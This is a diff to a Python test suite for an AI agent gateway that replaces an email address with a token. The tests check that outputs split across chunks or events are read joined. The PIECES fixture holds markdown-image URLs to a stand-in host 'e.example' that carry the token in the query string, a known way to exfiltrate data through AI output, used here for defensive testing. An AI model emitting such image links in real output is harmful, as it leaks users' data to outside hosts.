@@ -12,7 +12,7 @@ from gateway.settings import Settings
 from tests.agents.a2a_making import message, task
 from tests.system.kit import MAIL, policies, said, streamed
 from tests.system.mcp_agent import mcp_site
-from tests.system.messages import client, messaging
+from tests.system.messages import AGENTS, client, messaging
 from tests.system.oracle import events, response, speaks
 from tests.system.site import system
 from tests.system.test_a2a import rpc, saying
@@ -104,6 +104,87 @@ async def test_responses(sqlite_settings: Settings, tmp_path: Path, stream: bool
         assert reasoning["summary"][0]["text"] == call["input"] == tokens
 
 
+PIECES = (
+    ("![a](https://e.example/?q=", "TOKEN", ")"),
+    ("TOKEN", ".e.example/?q"),
+    ("![a](https://e.exam", "ple/?q=", "TOKEN"),
+)
+"""Texts that are an address once they are joined, with a token in the middle, first and last in it."""
+
+
+@pytest.mark.parametrize("pieces", PIECES)
+@pytest.mark.parametrize("stream", [False, True])
+async def test_blocks_of_a_message_are_read_joined(
+    sqlite_settings: Settings, tmp_path: Path, stream: bool, pieces: tuple[str, ...]
+) -> None:
+    own = policies(tmp_path / "own", rule("cloud", "chat"))
+    agents = {"cloud": AGENTS["cloud"]}
+    async with messaging(sqlite_settings, agents=agents, policy=own) as (site, claudes), client(site, "clerk") as api:
+        claude = claudes["cloud"]
+        claude.answer = lambda body: [{"type": "text", "text": text} for text in filled(pieces, str(body["messages"]))]
+        asked: dict[str, Any] = {
+            "model": "cloud",
+            "max_tokens": 64,
+            "messages": [{"role": "user", "content": LETTER}],
+        }
+        if stream:
+            async with api.messages.stream(**asked) as coming:
+                joined = "".join([text async for text in coming.text_stream])
+        else:
+            joined = "".join(getattr(one, "text", "") for one in (await api.messages.create(**asked)).content)
+        assert joined == "".join(filled(pieces, str(claude.bodies[-1]["messages"])))
+        chat = await site.chat(await site.key("clerk"), LETTER, "cloud", stream=stream, max_tokens=64)
+        assert chat.status_code == 200, chat.text
+        assert (streamed(chat.text) if stream else said(chat)) == "".join(
+            filled(pieces, str(claude.bodies[-1]["messages"]))
+        )
+
+
+@pytest.mark.parametrize("pieces", PIECES)
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("items", [1, 3])
+async def test_texts_of_a_response_are_read_joined(
+    sqlite_settings: Settings, tmp_path: Path, stream: bool, pieces: tuple[str, ...], items: int
+) -> None:
+    """As parts of one message, and as a message each."""
+    async with system(sqlite_settings, policy=policies(tmp_path / "own", rule("cloud", "respond"))) as site:
+        key, agent = await site.key("clerk"), speaks(site.agents["cloud"])
+
+        async def behave(scope: Any, receive: Any, send: Any) -> None:
+            parts = [
+                {"type": "output_text", "text": text, "annotations": []}
+                for text in filled(pieces, agent.bodies[-1]["input"])
+            ]
+            held = [parts] if items == 1 else [[part] for part in parts]
+            output = [
+                {"id": f"m_{at}", "type": "message", "role": "assistant", "status": "completed", "content": content}
+                for at, content in enumerate(held)
+            ]
+            head = [(b"content-type", b"text/event-stream" if stream else b"application/json")]
+            await send({"type": "http.response.start", "status": 200, "headers": head})
+            body = b"".join(events(output, agent.pieces)) if stream else json.dumps(response(output)).encode()
+            await send({"type": "http.response.body", "body": body})
+
+        agent.behave = behave
+        answer = await site.http.post(
+            "/v1/responses",
+            json={"model": "cloud", "input": LETTER, "stream": stream},
+            headers={"authorization": f"Bearer {key}"},
+        )
+        assert answer.status_code == 200, answer.text
+        assert MAIL not in answer.text
+        if stream:
+            lines = [json.loads(line[6:]) for line in answer.text.split("\n") if line.startswith("data: {")]
+            said_in_pieces = "".join(one["delta"] for one in lines if one["type"] == "response.output_text.delta")
+            assert said_in_pieces == "".join(filled(pieces, agent.bodies[-1]["input"]))
+
+
+def filled(pieces: tuple[str, ...], told: str) -> list[str]:
+    """Texts with the token that an agent was told."""
+    [token] = set(_TOKEN.findall(told))
+    return [piece.replace("TOKEN", token) for piece in pieces]
+
+
 @pytest.mark.parametrize("stream", [False, True])
 async def test_a_translated_chat(sqlite_settings: Settings, tmp_path: Path, stream: bool) -> None:
     own = policies(tmp_path / "own", rule("cloud", "chat"))
@@ -159,6 +240,42 @@ async def test_messages_and_artifacts_of_a2a(sqlite_settings: Settings, tmp_path
         plain, data, shaped = answer.json()["result"]["task"]["artifacts"][0]["parts"]
         assert plain["text"] == LETTER
         assert data["data"]["to"] == shaped["text"] == LETTER.replace(MAIL, token)
+
+
+@pytest.mark.parametrize("pieces", PIECES)
+async def test_parts_and_events_of_a2a_are_read_joined(
+    sqlite_settings: Settings, tmp_path: Path, pieces: tuple[str, ...]
+) -> None:
+    async with saying(sqlite_settings, policy=policies(tmp_path / "own", rule("in-house", "message"))) as (site, agent):
+        key, ward = await site.key("clerk"), site.agents["ward"]
+
+        async def echo(scope: Any, receive: Any, send: Any) -> None:
+            texts = filled(pieces, ward.bodies[-1]["params"]["message"]["parts"][0]["text"])
+            parts = [{"text": text} for text in texts]
+            if ward.bodies[-1]["method"] == "SendMessage":
+                agent.says = {"task": task(artifacts=[{"artifactId": "a", "parts": parts}])}
+            else:
+                states = ["TASK_STATE_WORKING"] * (len(parts) - 1) + ["TASK_STATE_COMPLETED"]
+                agent.says = [{"task": task()}]
+                agent.says += [
+                    {
+                        "statusUpdate": {
+                            "taskId": "t-1",
+                            "contextId": "c-1",
+                            "status": {"state": state, "message": {**message(), "parts": [part]}},
+                        }
+                    }
+                    for state, part in zip(states, parts, strict=True)
+                ]
+            await agent(scope, receive, send)
+
+        ward.behave = echo
+        for method in ("SendMessage", "SendStreamingMessage"):
+            answer = await rpc(site, key, method, {"message": {**message(), "parts": [{"text": LETTER}]}})
+            assert answer.status_code == 200, answer.text
+            [token] = set(_TOKEN.findall(json.dumps(ward.bodies[-1])))
+            assert MAIL not in answer.text
+            assert token in answer.text
 
 
 async def test_streams_of_a2a(sqlite_settings: Settings, tmp_path: Path) -> None:
